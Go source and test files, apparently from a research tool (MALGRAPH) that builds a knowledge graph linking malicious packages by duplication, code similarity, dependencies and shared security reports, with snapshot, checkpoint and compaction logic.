	assertEngineMatchesBuild(t, segmented, want, "upgraded-live")
	restored, err := RestoreEngineWithStore(bytes.NewReader(manifest.Bytes()), store)
	if err != nil {
		t.Fatal(err)
	}
	assertRestoredMatches(t, restored, segmented, "upgraded-restored")
}

// TestRestoreVersionErrors pins the two refusal messages: a pre-v3 snapshot
// names the minimum supported version, and a v5 manifest fed to the
// monolithic reader points at RestoreEngineWithStore / -store.
func TestRestoreVersionErrors(t *testing.T) {
	_, err := RestoreEngine(strings.NewReader(`{"version":2}`))
	if err == nil {
		t.Fatal("RestoreEngine accepted a version-2 snapshot")
	}
	for _, want := range []string{"version 2", "minimum supported version 3"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("pre-v3 error %q does not mention %q", err, want)
		}
	}
	// RestoreEngineWithStore shares the floor (it routes old versions to the
	// monolithic reader).
	if _, err := RestoreEngineWithStore(strings.NewReader(`{"version":2}`), openTestStore(t)); err == nil ||
		!strings.Contains(err.Error(), "minimum supported version") {
		t.Errorf("RestoreEngineWithStore pre-v3 error = %v", err)
	}

	// A real manifest through the wrong reader.
	ds, reps := miniDataset(t)
	store := openTestStore(t)
	eng := NewEngine(DefaultConfig())
	eng.AttachStore(store)
	if _, err := eng.Ingest(Batch{Entries: ds.Entries, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	var manifest bytes.Buffer
	if err := eng.Snapshot(&manifest); err != nil {
		t.Fatal(err)
	}
	_, err = RestoreEngine(bytes.NewReader(manifest.Bytes()))
	if err == nil {
		t.Fatal("RestoreEngine accepted a v5 manifest")
	}
	for _, want := range []string{"segmented manifest", "RestoreEngineWithStore", "-store"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("v5 error %q does not mention %q", err, want)
		}
	}
}

// TestCompactionKeepsManifestRestorable drives several delta checkpoints,
// compacts the store down to exactly what CollectManifestRefs says the
// final manifest needs, and requires that manifest to still restore — the
// liveness contract serve's background compaction relies on.
func TestCompactionKeepsManifestRestorable(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	store := openTestStore(t)
	eng := NewEngine(DefaultConfig())
	eng.AttachStore(store)
	third := len(ds.Entries) / 3
	var manifest bytes.Buffer
	for lo := 0; lo < len(ds.Entries); lo += third {
		hi := lo + third
		if hi > len(ds.Entries) {
			hi = len(ds.Entries)
		}
		b := Batch{Entries: ds.Entries[lo:hi], At: ds.CollectedAt}
		if lo == 0 {
			b.Reports = reps
		}
		if _, err := eng.Ingest(b); err != nil {
			t.Fatal(err)
		}
		manifest.Reset()
		if err := eng.Snapshot(&manifest); err != nil {
			t.Fatal(err)
		}
	}
	segsBefore := store.SegmentCount()
	if segsBefore < 2 {
		t.Fatalf("want several segments before compaction, got %d", segsBefore)
	}

	// LiveRefs (the engine's view) must agree with CollectManifestRefs (the
	// manifest's view) — compaction unions both, but each alone must keep
	// the latest checkpoint restorable.
	fromManifest, err := CollectManifestRefs(bytes.NewReader(manifest.Bytes()), store)
	if err != nil {
		t.Fatal(err)
	}
	fromEngine := eng.LiveRefs()
	for ref := range fromManifest {
		if !fromEngine[ref] {
			t.Fatalf("manifest ref %s missing from engine LiveRefs", ref)
		}
	}

	compacted, err := store.Compact(fromManifest)
	if err != nil {
		t.Fatal(err)
	}
	if !compacted {
		t.Fatal("Compact reported nothing to do")
	}
	if store.SegmentCount() != 1 {
		t.Fatalf("SegmentCount after compaction = %d, want 1", store.SegmentCount())
	}
	assertEngineMatchesBuild(t, eng, want, "live-pre-compaction")
	restored, err := RestoreEngineWithStore(bytes.NewReader(manifest.Bytes()), store)
	if err != nil {
		t.Fatalf("restore after compaction: %v", err)
	}
	assertRestoredMatches(t, restored, eng, "post-compaction")

	// And the compacted store still accepts the next delta checkpoint.
	if _, err := eng.Ingest(Batch{Entries: ds.Entries[:third]}); err != nil {
		t.Fatal(err)
	}
	if err := eng.Snapshot(io.Discard); err != nil {
		t.Fatal(err)
	}
}
