package core

// Segmented-checkpoint dirty tracking. A store-attached engine records
// which keys of each persisted section changed since the last checkpoint so
// Snapshot can write O(delta) chunks instead of re-serialising the corpus.
// Tracking is off (and free) for storeless engines: every hook is behind an
// `e.track != nil` check and Snapshot keeps its monolithic v4 format.

import (
	"malgraph/internal/castore"
	"malgraph/internal/ecosys"
)

// tracker accumulates the dirty keys of each delta-logged section between
// checkpoints. All fields are guarded by Engine.mu (the shard-phase item,
// import and partition dirt lives on each ecoShard, which its planning
// goroutine owns exclusively).
type tracker struct {
	entries map[string]bool // dataset coordinate keys upserted or re-stated
	reports map[string]bool // report URLs newly merged into the corpus
	pairs   map[string]bool // coexOwner keys set since the last checkpoint
	// delPairs records coexOwner deletions (hub-and-path ownership drops);
	// a later set supersedes the delete and vice versa.
	delPairs map[string]bool
	// pairsRebase is set when the co-existing fallback rebuilt the ownership
	// map wholesale: the next checkpoint re-encodes the whole section and
	// ignores the per-key dirt.
	pairsRebase bool
}

func newTracker() *tracker {
	return &tracker{
		entries:  make(map[string]bool),
		reports:  make(map[string]bool),
		pairs:    make(map[string]bool),
		delPairs: make(map[string]bool),
	}
}

func (t *tracker) pairSet(pk string) {
	t.pairs[pk] = true
	delete(t.delPairs, pk)
}

func (t *tracker) pairDel(pk string) {
	t.delPairs[pk] = true
	delete(t.pairs, pk)
}

// rebasePairs marks the ownership section for a full re-encode and drops the
// now-moot per-key dirt (the rebuild will repopulate pairs from scratch).
func (t *tracker) rebasePairs() {
	t.pairsRebase = true
	t.pairs = make(map[string]bool)
	t.delPairs = make(map[string]bool)
}

// reset clears every dirty set after a successful checkpoint. The shard-side
// dirt is cleared by the checkpoint walk itself.
func (t *tracker) reset() {
	t.entries = make(map[string]bool)
	t.reports = make(map[string]bool)
	t.pairs = make(map[string]bool)
	t.delPairs = make(map[string]bool)
	t.pairsRebase = false
}

// sectionLog is one section's durable chunk accounting: the ordered chunk
// references the manifest publishes, plus the counters the re-base policy
// reads. refs apply in order — later chunks' sets and deletes supersede
// earlier ones.
type sectionLog struct {
	refs []string
	// logged counts keys written across refs since the last re-base; when it
	// dwarfs the live key count the log is mostly superseded writes and a
	// re-base reclaims the space.
	logged int
	// rebase forces the next checkpoint to re-encode the section fully —
	// set at attach time (the store knows nothing yet) and after structural
	// invalidations like the co-existing fallback rebuild.
	rebase bool
}

// maxSectionChunks bounds a section's manifest ref list; beyond it the next
// checkpoint re-bases the section into one chunk so restore never replays an
// unbounded chain.
const maxSectionChunks = 64

// rebaseDue reports whether the section should be re-encoded fully: an
// explicit request, a ref chain past the bound, or a log carrying several
// times more superseded writes than live keys.
func (lg *sectionLog) rebaseDue(liveKeys int) bool {
	if lg.rebase || len(lg.refs) >= maxSectionChunks {
		return true
	}
	floor := liveKeys
	if floor < 64 {
		floor = 64
	}
	return lg.logged > 4*floor
}

// sectionNames lists every delta-logged section in manifest order.
var sectionNames = []string{
	sectionDataset, sectionGraph, sectionItems, sectionImports,
	sectionPartitions, sectionReports, sectionPairOwners,
}

const (
	sectionDataset    = "dataset"
	sectionGraph      = "graph"
	sectionItems      = "items"
	sectionImports    = "imports"
	sectionPartitions = "partitions"
	sectionReports    = "reports"
	sectionPairOwners = "pairOwners"
)

// artifactRef caches the durable blob backing one entry's artifact. The
// pointer identity check is the cheap "unchanged" test: Upsert replaces an
// entry's artifact wholesale when it changes, so a matching pointer means
// the cached key still describes the live bytes.
type artifactRef struct {
	art *ecosys.Artifact
	key string
}

// AttachStore routes all future Snapshot calls through the segmented v5
// path backed by st, and starts dirty tracking (including the graph's
// operation journal). Every section starts in re-base mode, so the first
// checkpoint after attaching writes the full state — correct both for a
// cold engine and for one restored from a monolithic v4 snapshot.
func (e *Engine) AttachStore(st *castore.Store) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.attachStoreLocked(st)
}

func (e *Engine) attachStoreLocked(st *castore.Store) {
	e.store = st
	e.track = newTracker()
	e.logs = make(map[string]*sectionLog, len(sectionNames))
	for _, name := range sectionNames {
		e.logs[name] = &sectionLog{rebase: true}
	}
	e.artifactRefs = make(map[string]artifactRef)
	e.mg.G.EnableJournal()
}

// Store returns the attached content store, or nil.
func (e *Engine) Store() *castore.Store {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.store
}

// LiveRefs returns every blob the current manifest state references — the
// chunk refs of all sections plus the artifact blobs reachable from the
// dataset. Compaction keeps exactly these and drops superseded chunks and
// unreferenced artifacts.
func (e *Engine) LiveRefs() map[string]bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	live := make(map[string]bool)
	for _, lg := range e.logs {
		for _, ref := range lg.refs {
			live[ref] = true
		}
	}
	for _, ref := range e.artifactRefs {
		live[ref.key] = true
	}
	return live
}
