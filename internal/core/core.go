// Package core builds MALGRAPH, the paper's primary contribution (§III): a
// knowledge graph over the collected malware corpus with four edge types.
//
//   - duplicated: the same package reported by different sources, matched on
//     name+version and confirmed by SHA-256 when both artifacts exist (§III-A).
//   - similar: packages sharing a code base, recovered by the embedding +
//     K-Means + silhouette pipeline (§III-B).
//   - dependency: dependent-hidden attacks, extracted from manifests and
//     Table II regex scans over source (§III-C).
//   - co-existing: packages named together by the same security report
//     (§III-D).
//
// Two node granularities coexist, exactly as in the paper's Fig. 3: a
// canonical node per package (carrying name, version, ecosystem, hash and
// availability) and a record node per (source, package) observation;
// duplicated edges connect record nodes, every other edge type connects
// canonical nodes.
package core

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/textsim"
)

// RecordNodePrefix marks per-source record node IDs.
const RecordNodePrefix = "rec:"

// Config parameterises graph construction.
type Config struct {
	Embed   textsim.EmbedConfig
	Cluster textsim.ClusterConfig
	Seed    uint64
	// PairwiseLimit bounds the clique size materialised for similar and
	// co-existing groups; larger groups get a hub-and-path topology with
	// identical connected components (the analyses consume components, not
	// edge counts).
	PairwiseLimit int
}

// DefaultConfig returns the paper's parameters.
func DefaultConfig() Config {
	return Config{
		Embed:         textsim.DefaultEmbedConfig(),
		Cluster:       textsim.DefaultClusterConfig(),
		Seed:          1,
		PairwiseLimit: 30,
	}
}

// MalGraph is the built knowledge graph plus the indexes the analyses use.
type MalGraph struct {
	G       *graph.Graph
	Dataset *collect.Result
	Reports []*reports.Report

	// SimilarClusters are the surviving similarity clusters per §III-B,
	// keyed by ecosystem.
	SimilarClusters map[ecosys.Ecosystem][]textsim.Cluster
	// ReportsByPackage indexes reports by canonical node ID.
	ReportsByPackage map[string][]*reports.Report

	entryByID map[string]*collect.Entry
}

// Build constructs MALGRAPH from a collected dataset and a report corpus —
// the one-shot (single-batch) case of the streaming Engine, kept as the
// convenience entry point for batch pipelines and benchmarks.
func Build(dataset *collect.Result, reportCorpus []*reports.Report, cfg Config) (*MalGraph, error) {
	if dataset == nil {
		return nil, fmt.Errorf("core: nil dataset")
	}
	eng := NewEngine(cfg)
	_, err := eng.Ingest(Batch{
		Entries:   dataset.Entries,
		PerSource: dataset.PerSource,
		Reports:   reportCorpus,
		At:        dataset.CollectedAt,
	})
	if err != nil {
		return nil, fmt.Errorf("core build: %w", err)
	}
	return eng.Graph(), nil
}

// NodeID returns the canonical node ID for a coordinate.
func NodeID(coord ecosys.Coord) string { return coord.Key() }

// RecordNodeID returns the record node ID for a (source, coordinate) pair.
func RecordNodeID(id sources.ID, coord ecosys.Coord) string {
	return RecordNodePrefix + strconv.Itoa(int(id)) + "|" + coord.Key()
}

// IsRecordNode reports whether a node ID names a per-source record.
func IsRecordNode(nodeID string) bool { return strings.HasPrefix(nodeID, RecordNodePrefix) }

// connectGroup joins members into one component: full clique up to limit,
// hub-and-path beyond (identical components, linear edge count).
func (mg *MalGraph) connectGroup(members []string, t graph.EdgeType, attrs graph.Attrs, limit int) error {
	return pairwise(members, limit, func(a, b string) error {
		return mg.G.AddEdge(a, b, t, attrs)
	})
}

// pairwise emits the pair set connectGroup materialises for a member group —
// full clique up to limit, hub-and-path beyond. It is the single definition
// of the group topology: the co-existing join index replays it per report to
// decide which pairs a report covers (and therefore may own), so the emitted
// set must stay bit-identical to the edges connectGroup inserts. Pairs may be
// emitted more than once (the hub-and-path walk revisits the hub's first
// spoke); emit must be idempotent.
func pairwise(members []string, limit int, emit func(a, b string) error) error {
	if len(members) < 2 {
		return nil
	}
	if len(members) <= limit {
		for i := 0; i < len(members); i++ {
			for j := i + 1; j < len(members); j++ {
				if err := emit(members[i], members[j]); err != nil {
					return err
				}
			}
		}
		return nil
	}
	hub := members[0]
	for i := 1; i < len(members); i++ {
		if err := emit(hub, members[i]); err != nil {
			return err
		}
		if err := emit(members[i-1], members[i]); err != nil {
			return err
		}
	}
	return nil
}

func uniqueStrings(in []string) []string {
	out := in[:0]
	var prev string
	for i, s := range in {
		if i == 0 || s != prev {
			out = append(out, s)
		}
		prev = s
	}
	return out
}

// PackageSubgraphs returns the connected components over one edge type,
// restricted to canonical package nodes, with at least minSize members.
func (mg *MalGraph) PackageSubgraphs(t graph.EdgeType, minSize int) [][]string {
	comps := mg.G.ComponentsMin(1, t)
	var out [][]string
	for _, comp := range comps {
		var pkgs []string
		for _, id := range comp {
			if !IsRecordNode(id) {
				pkgs = append(pkgs, id)
			}
		}
		if len(pkgs) >= minSize {
			out = append(out, pkgs)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if len(out[i]) != len(out[j]) {
			return len(out[i]) > len(out[j])
		}
		return out[i][0] < out[j][0]
	})
	return out
}

// DuplicateGroups returns groups of record nodes joined by duplicated edges
// (≥2 records, i.e. genuinely multi-source packages).
func (mg *MalGraph) DuplicateGroups() [][]string {
	comps := mg.G.ComponentsMin(2, graph.Duplicated)
	var out [][]string
	for _, comp := range comps {
		var recs []string
		for _, id := range comp {
			if IsRecordNode(id) {
				recs = append(recs, id)
			}
		}
		if len(recs) >= 2 {
			out = append(out, recs)
		}
	}
	return out
}

// EntryByNodeID resolves a canonical node ID back to its dataset entry.
func (mg *MalGraph) EntryByNodeID(nodeID string) (*collect.Entry, bool) {
	e, ok := mg.entryByID[nodeID]
	return e, ok
}
