// Package core builds MALGRAPH, the paper's primary contribution (§III): a
// knowledge graph over the collected malware corpus with four edge types.
//
//   - duplicated: the same package reported by different sources, matched on
//     name+version and confirmed by SHA-256 when both artifacts exist (§III-A).
//   - similar: packages sharing a code base, recovered by the embedding +
//     K-Means + silhouette pipeline (§III-B).
//   - dependency: dependent-hidden attacks, extracted from manifests and
//     Table II regex scans over source (§III-C).
//   - co-existing: packages named together by the same security report
//     (§III-D).
//
// Two node granularities coexist, exactly as in the paper's Fig. 3: a
// canonical node per package (carrying name, version, ecosystem, hash and
// availability) and a record node per (source, package) observation;
// duplicated edges connect record nodes, every other edge type connects
// canonical nodes.
package core

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"

	"malgraph/internal/collect"
	"malgraph/internal/depscan"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/parallel"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/textsim"
	"malgraph/internal/xrand"
)

// RecordNodePrefix marks per-source record node IDs.
const RecordNodePrefix = "rec:"

// Config parameterises graph construction.
type Config struct {
	Embed   textsim.EmbedConfig
	Cluster textsim.ClusterConfig
	Seed    uint64
	// PairwiseLimit bounds the clique size materialised for similar and
	// co-existing groups; larger groups get a hub-and-path topology with
	// identical connected components (the analyses consume components, not
	// edge counts).
	PairwiseLimit int
}

// DefaultConfig returns the paper's parameters.
func DefaultConfig() Config {
	return Config{
		Embed:         textsim.DefaultEmbedConfig(),
		Cluster:       textsim.DefaultClusterConfig(),
		Seed:          1,
		PairwiseLimit: 30,
	}
}

// MalGraph is the built knowledge graph plus the indexes the analyses use.
type MalGraph struct {
	G       *graph.Graph
	Dataset *collect.Result
	Reports []*reports.Report

	// SimilarClusters are the surviving similarity clusters per §III-B,
	// keyed by ecosystem.
	SimilarClusters map[ecosys.Ecosystem][]textsim.Cluster
	// ReportsByPackage indexes reports by canonical node ID.
	ReportsByPackage map[string][]*reports.Report

	entryByID map[string]*collect.Entry
}

// Build constructs MALGRAPH from a collected dataset and a report corpus.
func Build(dataset *collect.Result, reportCorpus []*reports.Report, cfg Config) (*MalGraph, error) {
	if dataset == nil {
		return nil, fmt.Errorf("core: nil dataset")
	}
	if cfg.PairwiseLimit <= 0 {
		cfg = DefaultConfig()
	}
	mg := &MalGraph{
		G:                graph.New(),
		Dataset:          dataset,
		Reports:          reportCorpus,
		SimilarClusters:  make(map[ecosys.Ecosystem][]textsim.Cluster),
		ReportsByPackage: make(map[string][]*reports.Report),
		entryByID:        make(map[string]*collect.Entry, len(dataset.Entries)),
	}
	for _, e := range dataset.Entries {
		mg.entryByID[NodeID(e.Coord)] = e
	}
	if err := mg.addNodes(); err != nil {
		return nil, fmt.Errorf("core nodes: %w", err)
	}
	if err := mg.addDuplicatedEdges(); err != nil {
		return nil, fmt.Errorf("core duplicated: %w", err)
	}
	if err := mg.addSimilarEdges(cfg); err != nil {
		return nil, fmt.Errorf("core similar: %w", err)
	}
	if err := mg.addDependencyEdges(); err != nil {
		return nil, fmt.Errorf("core dependency: %w", err)
	}
	if err := mg.addCoexistingEdges(cfg); err != nil {
		return nil, fmt.Errorf("core coexisting: %w", err)
	}
	return mg, nil
}

// NodeID returns the canonical node ID for a coordinate.
func NodeID(coord ecosys.Coord) string { return coord.Key() }

// RecordNodeID returns the record node ID for a (source, coordinate) pair.
func RecordNodeID(id sources.ID, coord ecosys.Coord) string {
	return RecordNodePrefix + strconv.Itoa(int(id)) + "|" + coord.Key()
}

// IsRecordNode reports whether a node ID names a per-source record.
func IsRecordNode(nodeID string) bool { return strings.HasPrefix(nodeID, RecordNodePrefix) }

func (mg *MalGraph) addNodes() error {
	for _, e := range mg.Dataset.Entries {
		attrs := graph.Attrs{
			"kind":      "package",
			"name":      e.Coord.Name,
			"version":   e.Coord.Version,
			"ecosystem": e.Coord.Ecosystem.String(),
			"avail":     e.Availability.String(),
			"occ":       strconv.Itoa(e.OccurrenceCount()),
		}
		if e.Artifact != nil {
			attrs["hash"] = e.Artifact.Hash()
		}
		ids := make([]string, 0, len(e.Sources))
		for _, s := range e.Sources {
			ids = append(ids, strconv.Itoa(int(s)))
		}
		attrs["sources"] = strings.Join(ids, ",")
		if err := mg.G.AddNode(NodeID(e.Coord), attrs); err != nil {
			return err
		}
		for _, s := range e.Sources {
			recAttrs := graph.Attrs{
				"kind":      "record",
				"name":      e.Coord.Name,
				"version":   e.Coord.Version,
				"ecosystem": e.Coord.Ecosystem.String(),
				"source":    strconv.Itoa(int(s)),
			}
			if e.Artifact != nil {
				recAttrs["hash"] = e.Artifact.Hash()
			}
			if err := mg.G.AddNode(RecordNodeID(s, e.Coord), recAttrs); err != nil {
				return err
			}
		}
	}
	return nil
}

// addDuplicatedEdges joins the record nodes of each package pairwise: same
// name+version across sources, hash-confirmed when artifacts exist (§III-A).
func (mg *MalGraph) addDuplicatedEdges() error {
	for _, e := range mg.Dataset.Entries {
		if len(e.Sources) < 2 {
			continue
		}
		attrs := graph.Attrs{"match": "name+version"}
		if e.Artifact != nil {
			attrs["match"] = "name+version+hash"
		}
		recIDs := make([]string, len(e.Sources))
		for i, s := range e.Sources {
			recIDs[i] = RecordNodeID(s, e.Coord)
		}
		for i := 0; i < len(recIDs); i++ {
			for j := i + 1; j < len(recIDs); j++ {
				if err := mg.G.AddEdge(recIDs[i], recIDs[j], graph.Duplicated, attrs); err != nil {
					return err
				}
			}
		}
	}
	return nil
}

// addSimilarEdges runs the §III-B pipeline per ecosystem over available
// artifacts and joins cluster members. The per-artifact tokenize→hash→
// embed→fingerprint work fans out across workers and is merged back in
// dataset order; each ecosystem then clusters concurrently on its own
// derived RNG stream. Both merges preserve sequential order, so the graph
// is identical under any GOMAXPROCS.
func (mg *MalGraph) addSimilarEdges(cfg Config) error {
	embedder := textsim.NewEmbedder(cfg.Embed)
	avail := mg.Dataset.Available()
	type embedded struct {
		eco  ecosys.Ecosystem
		item textsim.Item
	}
	// Token and hash buffers are recycled across artifacts (one pair per
	// worker via the pool); only the embedding vector and fingerprint — the
	// values that outlive the loop — are allocated per item.
	type scratch struct {
		tokens []string
		hashed []textsim.TokenHash
	}
	var pool sync.Pool
	items := parallel.Map(len(avail), func(i int) embedded {
		e := avail[i]
		sc, _ := pool.Get().(*scratch)
		if sc == nil {
			sc = &scratch{}
		}
		defer pool.Put(sc)
		// Tokenize once and share the hashed stream between the embedding
		// and the SimHash fingerprint instead of normalising and hashing
		// every token twice.
		sc.tokens = textsim.TokenizeAppend(sc.tokens[:0], e.Artifact.MergedSource())
		tokens := sc.tokens
		sc.hashed = textsim.HashTokens(tokens, sc.hashed)
		hashed := sc.hashed
		return embedded{
			eco: e.Coord.Ecosystem,
			item: textsim.Item{
				ID:     NodeID(e.Coord),
				Vector: embedder.EmbedHashed(hashed),
				Hash:   textsim.SimHashHashed(hashed),
			},
		}
	})
	byEco := make(map[ecosys.Ecosystem][]textsim.Item)
	for _, em := range items {
		byEco[em.eco] = append(byEco[em.eco], em.item)
	}
	ecos := make([]ecosys.Ecosystem, 0, len(byEco))
	for eco := range byEco {
		ecos = append(ecos, eco)
	}
	sort.Slice(ecos, func(i, j int) bool { return ecos[i] < ecos[j] })
	clustersByEco := parallel.Map(len(ecos), func(i int) []textsim.Cluster {
		eco := ecos[i]
		rng := xrand.New(cfg.Seed).Derive("similar/" + eco.String())
		return textsim.ClusterItems(byEco[eco], cfg.Cluster, rng)
	})
	for i, eco := range ecos {
		clusters := clustersByEco[i]
		mg.SimilarClusters[eco] = clusters
		for ci, cluster := range clusters {
			attrs := graph.Attrs{
				"cluster":    fmt.Sprintf("%s-%d", eco, ci),
				"silhouette": fmt.Sprintf("%.3f", cluster.Silhouette),
			}
			if err := mg.connectGroup(cluster.Members, graph.Similar, attrs, cfg.PairwiseLimit); err != nil {
				return err
			}
		}
	}
	return nil
}

// addDependencyEdges scans available artifacts for dependencies on other
// malicious packages (§III-C) and adds directed front→core edges.
func (mg *MalGraph) addDependencyEdges() error {
	scanner := depscan.NewScanner()
	// Corpus dictionary: name → canonical node IDs per ecosystem.
	byName := make(map[ecosys.Ecosystem]map[string][]string)
	corpus := make(map[ecosys.Ecosystem]map[string]bool)
	for _, e := range mg.Dataset.Entries {
		eco := e.Coord.Ecosystem
		if byName[eco] == nil {
			byName[eco] = make(map[string][]string)
			corpus[eco] = make(map[string]bool)
		}
		byName[eco][e.Coord.Name] = append(byName[eco][e.Coord.Name], NodeID(e.Coord))
		corpus[eco][e.Coord.Name] = true
	}
	// The regex scans are independent per artifact (Scanner is immutable);
	// fan them out and insert edges sequentially in dataset order so edge
	// order — and the first error reported — stay deterministic.
	avail := mg.Dataset.Available()
	type scanResult struct {
		deps []string
		err  error
	}
	scans := parallel.Map(len(avail), func(i int) scanResult {
		e := avail[i]
		deps, err := scanner.MaliciousDepsFast(e.Artifact, corpus[e.Coord.Ecosystem])
		return scanResult{deps: deps, err: err}
	})
	for i, e := range avail {
		if scans[i].err != nil {
			return fmt.Errorf("dep scan %s: %w", e.Coord, scans[i].err)
		}
		eco := e.Coord.Ecosystem
		front := NodeID(e.Coord)
		for _, dep := range scans[i].deps {
			for _, target := range byName[eco][dep] {
				if target == front {
					continue
				}
				err := mg.G.AddEdge(front, target, graph.Dependency, graph.Attrs{"dep": dep})
				if err != nil {
					return err
				}
			}
		}
	}
	return nil
}

// addCoexistingEdges joins packages named by the same report (§III-D).
func (mg *MalGraph) addCoexistingEdges(cfg Config) error {
	for _, rep := range mg.Reports {
		var members []string
		for _, coord := range rep.Packages {
			id := NodeID(coord)
			if _, ok := mg.G.Node(id); !ok {
				continue // report names a package outside the dataset
			}
			members = append(members, id)
			mg.ReportsByPackage[id] = append(mg.ReportsByPackage[id], rep)
		}
		sort.Strings(members)
		members = uniqueStrings(members)
		if len(members) < 2 {
			continue
		}
		attrs := graph.Attrs{"report": rep.URL}
		if err := mg.connectGroup(members, graph.Coexisting, attrs, cfg.PairwiseLimit); err != nil {
			return err
		}
	}
	return nil
}

// connectGroup joins members into one component: full clique up to limit,
// hub-and-path beyond (identical components, linear edge count).
func (mg *MalGraph) connectGroup(members []string, t graph.EdgeType, attrs graph.Attrs, limit int) error {
	if len(members) < 2 {
		return nil
	}
	if len(members) <= limit {
		for i := 0; i < len(members); i++ {
			for j := i + 1; j < len(members); j++ {
				if err := mg.G.AddEdge(members[i], members[j], t, attrs); err != nil {
					return err
				}
			}
		}
		return nil
	}
	hub := members[0]
	for i := 1; i < len(members); i++ {
		if err := mg.G.AddEdge(hub, members[i], t, attrs); err != nil {
			return err
		}
		if err := mg.G.AddEdge(members[i-1], members[i], t, attrs); err != nil {
			return err
		}
	}
	return nil
}

func uniqueStrings(in []string) []string {
	out := in[:0]
	var prev string
	for i, s := range in {
		if i == 0 || s != prev {
			out = append(out, s)
		}
		prev = s
	}
	return out
}

// PackageSubgraphs returns the connected components over one edge type,
// restricted to canonical package nodes, with at least minSize members.
func (mg *MalGraph) PackageSubgraphs(t graph.EdgeType, minSize int) [][]string {
	comps := mg.G.ComponentsMin(1, t)
	var out [][]string
	for _, comp := range comps {
		var pkgs []string
		for _, id := range comp {
			if !IsRecordNode(id) {
				pkgs = append(pkgs, id)
			}
		}
		if len(pkgs) >= minSize {
			out = append(out, pkgs)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if len(out[i]) != len(out[j]) {
			return len(out[i]) > len(out[j])
		}
		return out[i][0] < out[j][0]
	})
	return out
}

// DuplicateGroups returns groups of record nodes joined by duplicated edges
// (≥2 records, i.e. genuinely multi-source packages).
func (mg *MalGraph) DuplicateGroups() [][]string {
	comps := mg.G.ComponentsMin(2, graph.Duplicated)
	var out [][]string
	for _, comp := range comps {
		var recs []string
		for _, id := range comp {
			if IsRecordNode(id) {
				recs = append(recs, id)
			}
		}
		if len(recs) >= 2 {
			out = append(out, recs)
		}
	}
	return out
}

// EntryByNodeID resolves a canonical node ID back to its dataset entry.
func (mg *MalGraph) EntryByNodeID(nodeID string) (*collect.Entry, bool) {
	e, ok := mg.entryByID[nodeID]
	return e, ok
}
