package core

// Engine is the streaming counterpart of Build: a long-lived MALGRAPH
// instance that ingests (entries, reports) batches as registries and report
// feeds publish them (§II-B is a continuous collection process; the one-shot
// Build is the degenerate single-batch case). All four edge families are
// maintained incrementally through persistent indexes:
//
//   - duplicated: per-entry record cliques, appended as sources accumulate.
//   - dependency: a corpus dictionary (name → canonical nodes) plus a
//     reverse import index (imported name → scanned fronts), so a new
//     package links both directions — to the corpus members it imports and
//     from the previously ingested fronts that import *it* — without
//     rescanning anything.
//   - similar: per-artifact tokenize→hash→embed→SimHash products are cached
//     per node; a banded LSH index (textsim.LSHIndex) partitions every
//     ecosystem by verified band-candidate connectivity (shared SimHash band
//     AND cosine ≥ threshold, transitively — family-sized components at any
//     corpus scale), and only the partitions containing changed artifacts
//     re-cluster: their similar edges are dropped surgically
//     (graph.RemoveEdgesIncident) and re-derived, while every other
//     partition's clusters and edges are untouched. Clusters are computed
//     per partition, so appends cost O(dirty partitions), not O(ecosystem).
//   - co-existing: reports are merged into a URL-sorted corpus through an
//     incremental report-join index — a URL-sorted posting list per named
//     coordinate (present in the graph or not) plus a per-pair edge ownership
//     map (owning report URL = the URL-smallest report covering the pair).
//     A wanted package arriving re-joins only the reports that name it; an
//     out-of-order report re-derives only the report groups its packages
//     overlap, repairing first-writer ownership per pair via a surgical
//     graph.RemoveEdge — never the whole edge family.
//
// Determinism contract: ingesting a corpus in any batch partition yields a
// graph whose connected components, edge sets and all downstream analyses
// are identical to a one-shot Build of the merged corpus. (Edge *insertion
// order* — and therefore serialized JSON byte order — may differ between
// partitions; every analysis consumes components, counts or sorted views.)
// The contract holds because every stage either derives a monotone edge set
// (duplicated, dependency) or re-derives the affected family from merged
// state that is itself partition-independent: items enter clustering sorted
// by node ID and reports sorted by URL, exactly the order Build sees.

import (
	"fmt"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"malgraph/internal/castore"
	"malgraph/internal/collect"
	"malgraph/internal/depscan"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/parallel"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/textsim"
	"malgraph/internal/xrand"
)

// Batch is one ingest installment: new dataset entries with their source
// accounting (see collect.Feed) plus newly published security reports.
type Batch struct {
	Entries   []*collect.Entry
	PerSource map[sources.ID]collect.SourceStats
	// Stats carries each entry's absolute per-source accounting (see
	// collect.Batch.Stats). When present, the engine applies exact
	// accounting deltas per entry — correct under replay, under batches
	// that extend already-known coordinates (the external ingest path),
	// and under any feed/external mix. When nil (hand-assembled batches,
	// one-shot Build), the PerSource aggregate is added verbatim whenever
	// the batch changed the dataset.
	Stats   map[string]collect.EntryStat
	Reports []*reports.Report
	// At is the collection instant; recorded once (first non-zero wins).
	At time.Time
}

// IngestStats summarises what one Ingest call changed — the invalidation
// signal the API layer uses to recompute only affected analysis blocks.
type IngestStats struct {
	NewEntries     int
	UpdatedEntries int
	NewArtifacts   int
	NewReports     int
	// DuplicateReports counts batch reports whose URL was already ingested
	// (dropped — the corpus keeps the first crawl); of those,
	// DuplicateReportConflicts had different content (body, packages or
	// IoCs) — a re-crawled report that changed, which previously vanished
	// without a trace.
	DuplicateReports         int
	DuplicateReportConflicts int
	// Reclustered lists the ecosystems whose §III-B clustering re-ran.
	Reclustered []ecosys.Ecosystem
	// Recluster-scope accounting for the LSH-scoped partial re-clustering:
